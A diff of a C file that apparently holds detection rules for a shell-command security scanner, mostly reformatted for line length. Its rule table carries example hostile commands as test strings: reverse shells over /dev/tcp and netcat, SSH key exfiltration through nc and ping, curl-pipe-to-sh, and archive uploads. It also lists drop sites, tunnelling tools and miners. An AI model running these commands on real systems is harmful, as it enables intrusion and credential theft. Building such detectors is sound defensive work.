@@ -9,10 +9,31 @@
 
 /* Installers that projects themselves tell people to run. */
 static const char *const network_installers[] = {
-	"sh.rustup.rs", "get.docker.com", "astral.sh", "bun.sh", "deno.land", "install.python-poetry.org", "get.pnpm.io",
-	"deb.nodesource.com", "rpm.nodesource.com", "get.sdkman.io", "mise.run", "starship.rs", "get.helm.sh", "tailscale.com",
-	"ollama.com", "bootstrap.pypa.io", "get-ghcup.haskell.org", "nixos.org", "get.k3s.io", "fnm.vercel.app", "foundry.paradigm.xyz",
-	"install.determinate.systems", "cli.github.com", "pyenv.run", "raw.githubusercontent.com",
+	"sh.rustup.rs",
+	"get.docker.com",
+	"astral.sh",
+	"bun.sh",
+	"deno.land",
+	"install.python-poetry.org",
+	"get.pnpm.io",
+	"deb.nodesource.com",
+	"rpm.nodesource.com",
+	"get.sdkman.io",
+	"mise.run",
+	"starship.rs",
+	"get.helm.sh",
+	"tailscale.com",
+	"ollama.com",
+	"bootstrap.pypa.io",
+	"get-ghcup.haskell.org",
+	"nixos.org",
+	"get.k3s.io",
+	"fnm.vercel.app",
+	"foundry.paradigm.xyz",
+	"install.determinate.systems",
+	"cli.github.com",
+	"pyenv.run",
+	"raw.githubusercontent.com",
 };
 
 static bool network_is_installer(const struct shell_model *m, const struct shell_command *c)
@@ -25,8 +46,10 @@ static bool network_is_installer(const struct shell_model *m, const struct shell
 		for (size_t k = 0; k < m->commands[i].n_hosts; k++) {
 			bool is_known = net_is_local(&hosts[k]);
 
-			for (size_t j = 0; j < sizeof(network_installers) / sizeof(network_installers[0]); j++)
-				is_known = is_known || strcasecmp(hosts[k].name, network_installers[j]) == 0;
+			for (size_t j = 0;
+			     j < sizeof(network_installers) / sizeof(network_installers[0]); j++)
+				is_known = is_known ||
+					   strcasecmp(hosts[k].name, network_installers[j]) == 0;
 			has_known = has_known || is_known;
 			has_other = has_other || !is_known;
 		}
@@ -37,7 +60,8 @@ static bool network_is_installer(const struct shell_model *m, const struct shell
 
 static bool network_runs(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->runs & TAINT_REMOTE) && strcmp(c->name, "chmod") != 0 && !network_is_installer(m, c);
+	return (c->runs & TAINT_REMOTE) && strcmp(c->name, "chmod") != 0 &&
+	       !network_is_installer(m, c);
 }
 
 static bool network_installs(const struct shell_model *m, const struct shell_command *c)
@@ -87,7 +111,8 @@ static bool network_shell(const struct shell_model *m, const struct shell_comman
 		bool dups_in = false;
 
 		for (size_t i = 0; i < c->n_redirects; i++)
-			dups_in = dups_in || (c->redirects[i].kind == REDIRECT_DUP && strcmp(c->redirects[i].fd, "0") == 0);
+			dups_in = dups_in || (c->redirects[i].kind == REDIRECT_DUP &&
+					      strcmp(c->redirects[i].fd, "0") == 0);
 		return dups_in;
 	}
 	return c->n == 1 || c->argv[1].s[0] == '-';
@@ -117,40 +142,68 @@ static bool network_device(const struct shell_model *m, const struct shell_comma
 {
 	(void)m;
 	for (size_t i = 0; i < c->n_redirects; i++)
-		if (str_starts(c->redirects[i].target.s, "/dev/tcp/") || str_starts(c->redirects[i].target.s, "/dev/udp/"))
+		if (str_starts(c->redirects[i].target.s, "/dev/tcp/") ||
+		    str_starts(c->redirects[i].target.s, "/dev/udp/"))
 			return true;
 	return false;
 }
 
 static bool network_secret(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->sends & TAINT_SECRET) && !rule_is_local(m, c) && !rule_is("getent host ssh", c->name);
+	return (c->sends & TAINT_SECRET) && !rule_is_local(m, c) &&
+	       !rule_is("getent host ssh", c->name);
 }
 
 static bool network_identity(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->sends & TAINT_IDENTITY) && !rule_is_local(m, c) && strcmp(c->name, "getent") != 0;
+	return (c->sends & TAINT_IDENTITY) && !rule_is_local(m, c) &&
+	       strcmp(c->name, "getent") != 0;
 }
 
 static bool network_archive(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->sends & TAINT_ARCHIVE) && !rule_is_local(m, c) && !rule_is("ssh", c->name);
+	return (c->sends & TAINT_ARCHIVE) && !rule_is_local(m, c) &&
+	       !rule_is("ssh scp rsync", c->name);
 }
 
 static bool network_each(const struct shell_model *m, const struct shell_command *c)
 {
-	return (c->sends & TAINT_FILE) && (c->via & (VIA_EACH | VIA_LOOP)) && !rule_is_local(m, c) &&
-	       rule_is("curl wget http nc ncat scp", c->name);
+	return (c->sends & TAINT_FILE) && (c->via & (VIA_EACH | VIA_LOOP)) &&
+	       !rule_is_local(m, c) && rule_is("curl wget http nc ncat scp", c->name);
 }
 
 /* Data that is thrown at a place where anybody can pick it up. */
 static bool network_drop(const struct shell_model *m, const struct shell_command *c)
 {
-	static const char *const hosts[] = {"transfer.sh", "pastebin.com", "0x0.st", "webhook.site", "requestbin", "ngrok",
-					    "interact.sh", "oast.", "burpcollaborator", "file.io", "ix.io", "termbin.com", "hastebin",
-					    "paste.ee", "requestcatcher", "pipedream.net", "beeceptor", "api.telegram.org/bot",
-					    "discord.com/api/webhooks", "discordapp.com/api/webhooks", "hooks.slack.com", "temp.sh",
-					    "bashupload", "gofile.io", "anonfiles", "canarytokens", "dnslog", "ceye.io", "paste.rs"};
+	static const char *const hosts[] = {"transfer.sh",
+					    "pastebin.com",
+					    "0x0.st",
+					    "webhook.site",
+					    "requestbin",
+					    "ngrok",
+					    "interact.sh",
+					    "oast.",
+					    "burpcollaborator",
+					    "file.io",
+					    "ix.io",
+					    "termbin.com",
+					    "hastebin",
+					    "paste.ee",
+					    "requestcatcher",
+					    "pipedream.net",
+					    "beeceptor",
+					    "api.telegram.org/bot",
+					    "discord.com/api/webhooks",
+					    "discordapp.com/api/webhooks",
+					    "hooks.slack.com",
+					    "temp.sh",
+					    "bashupload",
+					    "gofile.io",
+					    "anonfiles",
+					    "canarytokens",
+					    "dnslog",
+					    "ceye.io",
+					    "paste.rs"};
 
 	(void)m;
 	if (rule_is("echo printf grep rg", c->name))
@@ -180,7 +233,10 @@ static bool network_pip(const struct shell_model *m, const struct shell_command 
 	for (size_t i = 1; i < c->n; i++) {
 		const char *s = c->argv[i].s;
 
-		if (str_starts(s, "http://") || (str_starts(s, "https://") && !rule_is("--index-url -i --extra-index-url -f --find-links --registry", c->argv[i - 1].s)) ||
+		if (str_starts(s, "http://") ||
+		    (str_starts(s, "https://") &&
+		     !rule_is("--index-url -i --extra-index-url -f --find-links --registry",
+			      c->argv[i - 1].s)) ||
 		    str_starts(s, "--trusted-host") || str_starts(s, "--extra-index-url"))
 			return true;
 	}
@@ -212,50 +268,147 @@ static bool network_items(const struct shell_model *m, const struct shell_comman
 #define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf
 
 static const struct shell_rule network_rows[] = {
-	{.id = "CMD-DOWNLOAD-RUN", .reason = "It runs code that comes from the network.", ROW(DANGEROUS_PATTERN, 0.85, HIGH),
-	 .test = network_runs, .hit = "curl http://a.example/x | sh", .miss = "curl http://a.example/x | grep y"},
-	{.id = "CMD-INSTALLER-RUN", .reason = "It runs an installer from the network.", ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
-	 .test = network_installs, .hit = "curl https://sh.rustup.rs | sh", .miss = "curl https://sh.rustup.rs | less"},
-	{.id = "CMD-DOWNLOAD-CHMOD", .reason = "It makes a downloaded file executable.", ROW(DANGEROUS_PATTERN, 0.4, LOW),
-	 .programs = "chmod", .test = network_executable, .hit = "wget http://a.example/x && chmod +x x", .miss = "chmod +x x"},
-	{.id = "CMD-DECODED-RUN", .reason = "It runs code that was encoded.", ROW(DANGEROUS_PATTERN, 0.75, HIGH),
-	 .test = network_decoded, .hit = "echo aWQK | base64 -d | sh", .miss = "echo aWQK | base64 -d"},
-	{.id = "CMD-INPUT-RUN", .reason = "It runs whatever somebody sends.", ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
-	 .test = network_input, .hit = "while read l; do bash -c \"$l\"; done", .miss = "while read l; do echo \"$l\"; done"},
-	{.id = "CMD-EACH-RUN", .reason = "It runs each line of a list as code.", ROW(DANGEROUS_PATTERN, 0.4, LOW),
-	 .test = network_items, .hit = "find . | xargs sh", .miss = "find . | xargs -I{} sh -c 'wc -l {}'"},
-	{.id = "CMD-NAME-HIDDEN", .reason = "The name of its program comes from the network or a decoder.", ROW(DANGEROUS_PATTERN, 0.75, HIGH),
-	 .test = network_substituted, .hit = "$(curl http://a.example/x)", .miss = "$(which ls) -l"},
-	{.id = "CMD-OUTPUT-RUN", .reason = "It runs what another command prints about the machine.", ROW(DANGEROUS_PATTERN, 0.4, LOW),
-	 .test = network_output, .hit = "`id`", .miss = "id"},
-	{.id = "CMD-REVERSE-SHELL", .reason = "It gives a shell to whoever is at the other end of a connection.", ROW(NETWORK_ACCESS, 0.95, CRITICAL),
-	 .test = network_shell, .hit = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", .miss = "bash -i"},
-	{.id = "CMD-PIPED-SHELL", .reason = "It gives a shell to whoever is at the other end of a connection.", ROW(NETWORK_ACCESS, 0.95, CRITICAL),
-	 .test = network_piped_shell, .hit = "mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f", .miss = "cat f | sort | nc localhost 1"},
-	{.id = "CMD-NETCAT-EXEC", .reason = "It connects a program to the network.", ROW(NETWORK_ACCESS, 0.9, CRITICAL),
-	 .programs = "nc ncat netcat nc.traditional socat", .test = network_exec_listen, .hit = "nc -e /bin/sh 192.0.2.1 4444", .miss = "nc -z localhost 80"},
-	{.id = "CMD-DEV-TCP", .reason = "It opens a connection with the shell itself.", ROW(NETWORK_ACCESS, 0.5, MEDIUM),
-	 .test = network_device, .hit = "exec 3<>/dev/tcp/192.0.2.1/80", .miss = "exec 3<file"},
-	{.id = "CMD-EXFIL-SECRET", .reason = "It sends credentials over the network.", ROW(DATA_LEAK, 0.9, CRITICAL),
-	 .test = network_secret, .hit = "cat ~/.ssh/id_rsa | nc 192.0.2.1 80", .miss = "cat README | nc 192.0.2.1 80"},
-	{.id = "CMD-EXFIL-IDENTITY", .reason = "It sends facts about the machine or the environment over the network.", ROW(DATA_LEAK, 0.6, MEDIUM),
-	 .test = network_identity, .hit = "curl http://a.example/?u=$(whoami)", .miss = "curl http://a.example/?u=me"},
-	{.id = "CMD-EXFIL-ARCHIVE", .reason = "It sends many files over the network.", ROW(DATA_LEAK, 0.5, MEDIUM),
-	 .test = network_archive, .hit = "tar cz src | curl -T - http://a.example/", .miss = "tar cz src > a.tgz"},
-	{.id = "CMD-EXFIL-EACH", .reason = "It sends many files over the network.", ROW(DATA_LEAK, 0.5, MEDIUM),
-	 .test = network_each, .hit = "for f in *; do curl -T \"$f\" http://a.example/; done", .miss = "for f in *; do cat \"$f\"; done"},
-	{.id = "CMD-DROP-SITE", .reason = "It sends something to a site where strangers pick up data.", ROW(DATA_LEAK, 0.5, MEDIUM),
-	 .test = network_drop, .hit = "curl -T a https://transfer.sh/a", .miss = "echo https://transfer.sh/a"},
-	{.id = "CMD-PING-DATA", .reason = "It hides data in pings.", ROW(DATA_LEAK, 0.7, MEDIUM),
-	 .programs = "ping", .test = network_ping, .hit = "ping -p $(cat ~/.ssh/id_rsa | xxd -p) 192.0.2.1", .miss = "ping -c 1 192.0.2.1"},
-	{.id = "CMD-SSH-REVERSE", .reason = "It opens a way back in through another machine.", ROW(NETWORK_ACCESS, 0.4, LOW),
-	 .programs = "ssh autossh", .test = network_forward, .hit = "ssh -R 2222:localhost:22 a.example", .miss = "ssh -L 8080:localhost:80 a.example"},
-	{.id = "CMD-TUNNEL", .reason = "It opens a tunnel past the firewall.", ROW(NETWORK_ACCESS, 0.4, LOW),
-	 .programs = "chisel frpc frps ligolo-ng iodine dnscat2 dnscat ptunnel gost sliver pwncat revsocks rathole bore", .hit = "chisel client 192.0.2.1:80 R:1:localhost:1", .miss = "curl localhost"},
-	{.id = "CMD-PIP-URL", .reason = "It installs a package from outside the usual index.", ROW(DANGEROUS_PATTERN, 0.35, LOW),
-	 .programs = "pip pip3 npm gem easy_install pipx", .words = "install|i|add", .test = network_pip, .hit = "pip install http://a.example/x.tar.gz", .miss = "pip install requests"},
-	{.id = "CMD-MINER", .reason = "It mines money with this machine.", ROW(DANGEROUS_PATTERN, 0.9, HIGH),
-	 .programs = "xmrig minerd cpuminer ccminer ethminer cgminer t-rex nbminer phoenixminer xmr-stak lolMiner", .hit = "xmrig -o pool.example:3333", .miss = "nproc"},
+	{.id = "CMD-DOWNLOAD-RUN",
+	 .reason = "It runs code that comes from the network.",
+	 ROW(DANGEROUS_PATTERN, 0.85, HIGH),
+	 .test = network_runs,
+	 .hit = "curl http://a.example/x | sh",
+	 .miss = "curl http://a.example/x | grep y"},
+	{.id = "CMD-INSTALLER-RUN",
+	 .reason = "It runs an installer from the network.",
+	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
+	 .test = network_installs,
+	 .hit = "curl https://sh.rustup.rs | sh",
+	 .miss = "curl https://sh.rustup.rs | less"},
+	{.id = "CMD-DOWNLOAD-CHMOD",
+	 .reason = "It makes a downloaded file executable.",
+	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .programs = "chmod",
+	 .test = network_executable,
+	 .hit = "wget http://a.example/x && chmod +x x",
+	 .miss = "chmod +x x"},
+	{.id = "CMD-DECODED-RUN",
+	 .reason = "It runs code that was encoded.",
+	 ROW(DANGEROUS_PATTERN, 0.75, HIGH),
+	 .test = network_decoded,
+	 .hit = "echo aWQK | base64 -d | sh",
+	 .miss = "echo aWQK | base64 -d"},
+	{.id = "CMD-INPUT-RUN",
+	 .reason = "It runs whatever somebody sends.",
+	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
+	 .test = network_input,
+	 .hit = "while read l; do bash -c \"$l\"; done",
+	 .miss = "while read l; do echo \"$l\"; done"},
+	{.id = "CMD-EACH-RUN",
+	 .reason = "It runs each line of a list as code.",
+	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .test = network_items,
+	 .hit = "find . | xargs sh",
+	 .miss = "find . | xargs -I{} sh -c 'wc -l {}'"},
+	{.id = "CMD-NAME-HIDDEN",
+	 .reason = "The name of its program comes from the network or a decoder.",
+	 ROW(DANGEROUS_PATTERN, 0.75, HIGH),
+	 .test = network_substituted,
+	 .hit = "$(curl http://a.example/x)",
+	 .miss = "$(which ls) -l"},
+	{.id = "CMD-OUTPUT-RUN",
+	 .reason = "It runs what another command prints about the machine.",
+	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .test = network_output,
+	 .hit = "`id`",
+	 .miss = "id"},
+	{.id = "CMD-REVERSE-SHELL",
+	 .reason = "It gives a shell to whoever is at the other end of a connection.",
+	 ROW(NETWORK_ACCESS, 0.95, CRITICAL),
+	 .test = network_shell,
+	 .hit = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+	 .miss = "bash -i"},
+	{.id = "CMD-PIPED-SHELL",
+	 .reason = "It gives a shell to whoever is at the other end of a connection.",
+	 ROW(NETWORK_ACCESS, 0.95, CRITICAL),
+	 .test = network_piped_shell,
+	 .hit = "mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f",
+	 .miss = "cat f | sort | nc localhost 1"},
+	{.id = "CMD-NETCAT-EXEC",
+	 .reason = "It connects a program to the network.",
+	 ROW(NETWORK_ACCESS, 0.9, CRITICAL),
+	 .programs = "nc ncat netcat nc.traditional socat",
+	 .test = network_exec_listen,
+	 .hit = "nc -e /bin/sh 192.0.2.1 4444",
+	 .miss = "nc -z localhost 80"},
+	{.id = "CMD-DEV-TCP",
+	 .reason = "It opens a connection with the shell itself.",
+	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
+	 .test = network_device,
+	 .hit = "exec 3<>/dev/tcp/192.0.2.1/80",
+	 .miss = "exec 3<file"},
+	{.id = "CMD-EXFIL-SECRET",
+	 .reason = "It sends credentials over the network.",
+	 ROW(DATA_LEAK, 0.9, CRITICAL),
+	 .test = network_secret,
+	 .hit = "cat ~/.ssh/id_rsa | nc 192.0.2.1 80",
+	 .miss = "cat README | nc 192.0.2.1 80"},
+	{.id = "CMD-EXFIL-IDENTITY",
+	 .reason = "It sends facts about the machine or the environment over the network.",
+	 ROW(DATA_LEAK, 0.6, MEDIUM),
+	 .test = network_identity,
+	 .hit = "curl http://a.example/?u=$(whoami)",
+	 .miss = "curl http://a.example/?u=me"},
+	{.id = "CMD-EXFIL-ARCHIVE",
+	 .reason = "It sends many files over the network.",
+	 ROW(DATA_LEAK, 0.5, MEDIUM),
+	 .test = network_archive,
+	 .hit = "tar cz src | curl -T - http://a.example/",
+	 .miss = "tar cz src > a.tgz"},
+	{.id = "CMD-EXFIL-EACH",
+	 .reason = "It sends many files over the network.",
+	 ROW(DATA_LEAK, 0.5, MEDIUM),
+	 .test = network_each,
+	 .hit = "for f in *; do curl -T \"$f\" http://a.example/; done",
+	 .miss = "for f in *; do cat \"$f\"; done"},
+	{.id = "CMD-DROP-SITE",
+	 .reason = "It sends something to a site where strangers pick up data.",
+	 ROW(DATA_LEAK, 0.5, MEDIUM),
+	 .test = network_drop,
+	 .hit = "curl -T a https://transfer.sh/a",
+	 .miss = "echo https://transfer.sh/a"},
+	{.id = "CMD-PING-DATA",
+	 .reason = "It hides data in pings.",
+	 ROW(DATA_LEAK, 0.7, MEDIUM),
+	 .programs = "ping",
+	 .test = network_ping,
+	 .hit = "ping -p $(cat ~/.ssh/id_rsa | xxd -p) 192.0.2.1",
+	 .miss = "ping -c 1 192.0.2.1"},
+	{.id = "CMD-SSH-REVERSE",
+	 .reason = "It opens a way back in through another machine.",
+	 ROW(NETWORK_ACCESS, 0.4, LOW),
+	 .programs = "ssh autossh",
+	 .test = network_forward,
+	 .hit = "ssh -R 2222:localhost:22 a.example",
+	 .miss = "ssh -L 8080:localhost:80 a.example"},
+	{.id = "CMD-TUNNEL",
+	 .reason = "It opens a tunnel past the firewall.",
+	 ROW(NETWORK_ACCESS, 0.4, LOW),
+	 .programs =
+		 "chisel frpc frps ligolo-ng iodine dnscat2 dnscat ptunnel gost sliver pwncat revsocks rathole bore",
+	 .hit = "chisel client 192.0.2.1:80 R:1:localhost:1",
+	 .miss = "curl localhost"},
+	{.id = "CMD-PIP-URL",
+	 .reason = "It installs a package from outside the usual index.",
+	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
+	 .programs = "pip pip3 npm gem easy_install pipx",
+	 .words = "install|i|add",
+	 .test = network_pip,
+	 .hit = "pip install http://a.example/x.tar.gz",
+	 .miss = "pip install requests"},
+	{.id = "CMD-MINER",
+	 .reason = "It mines money with this machine.",
+	 ROW(DANGEROUS_PATTERN, 0.9, HIGH),
+	 .programs =
+		 "xmrig minerd cpuminer ccminer ethminer cgminer t-rex nbminer phoenixminer xmr-stak lolMiner",
+	 .hit = "xmrig -o pool.example:3333",
+	 .miss = "nproc"},
 };
 
-const struct shell_rules shell_rules_network = {network_rows, sizeof(network_rows) / sizeof(network_rows[0])};
+const struct shell_rules shell_rules_network = {network_rows,
+						sizeof(network_rows) / sizeof(network_rows[0])};
